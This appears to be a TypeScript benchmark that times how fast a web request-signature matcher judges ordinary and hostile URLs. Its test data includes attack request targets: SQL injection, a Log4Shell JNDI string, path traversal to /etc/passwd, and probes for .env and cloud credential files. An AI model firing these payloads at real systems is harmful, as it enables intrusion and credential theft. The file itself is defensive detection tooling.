import { type JudgedRequest, signaturesOf } from '../judgement/signatures/matcher.ts';
import { printTable } from './table.ts';

const ROUNDS = 5;
const REQUESTS = 20_000;

const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';

/** Targets by kind. Each line of the output is the mean over the targets of one kind. */
const TARGETS: Readonly<Record<string, readonly string[]>> = {
  'ordinary: a path': [
    '/',
    '/blog/a-title/',
    '/static/app.3f2.js',
    '/shop/shoes/red-42',
    '/img/2026/a-b.webp',
  ],
  'ordinary: a query': ['/?page=2&sort=name', '/search?q=red+shoes', '/api/items?limit=20&offset=40'],
  'ordinary: encoded': ['/caf%C3%A9/', '/search?q=Sch%C3%B6ne+Gr%C3%BC%C3%9Fe', '/a%20b.pdf'],
  'ordinary: an address in a query': ['/login?next=https%3A%2F%2Fwww.example.org%2Faccount'],
  'hostile: a path': [
    '/.env',
    '/wp-login.php',
    '/phpmyadmin/',
    '/vendor/phpunit/src/Util/PHP/eval-stdin.php',
  ],
  'hostile: a spelling': ['/%252e%67it/config', '/a/..;/.aws/credentials', '/cgi-bin/.%2e/.%2e/bin/sh'],
  'hostile: a payload': [
    '/item.php?id=-1%20union%20all%20select%201,2,3--%20',
    '/?x=$%7Bjndi:ldap://192.0.2.1/a%7D',
    '/index.php?page=..%2f..%2f..%2fetc%2fpasswd',
  ],
  'hostile: 8 KB of steps up': [`/?f=${'..%2f'.repeat(1600)}etc/passwd`],
};

/**
 * Prints the cost of comparing a request with the list of attacks, in nanoseconds of CPU: the minimum of five rounds.
 */
export function judgeBench(): void {
  const start = process.cpuUsage();
  signaturesOf(requestFor('/'));
  const first = microsecondsSince(start);
  const rows = Object.entries(TARGETS).map(([name, targets]) => [name, `${leastNanoseconds(targets)}`]);
  printTable('A request and the list of attacks: nanoseconds of CPU', ['request', 'ns'], rows);
  console.log(`  The list is read at the first request, in ${(first / 1000).toFixed(0)} ms of CPU.`);
}

function leastNanoseconds(targets: readonly string[]): number {
  const requests = targets.map(requestFor);
  const longest = Math.max(...targets.map(({ length }) => length));
  const count = longest > 1000 ? REQUESTS / 200 : REQUESTS;
  let least = Number.POSITIVE_INFINITY;
  for (let round = 0; round < ROUNDS; round++) {
    const start = process.cpuUsage();
    for (let i = 0; i < count; i++) {
      const request = requests[i % requests.length];
      if (request !== undefined) signaturesOf(request);
    }
    least = Math.min(least, microsecondsSince(start) / count);
  }
  return Math.round(least * 1000);
}

function microsecondsSince(start: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(start);
  return user + system;
}

function requestFor(target: string): JudgedRequest {
  return {
    method: 'GET',
    target,
    version: 'HTTP/1.1',
    status: '200',
    referer: 'https://www.example.org/shop/',
    userAgent: BROWSER,
  };
}
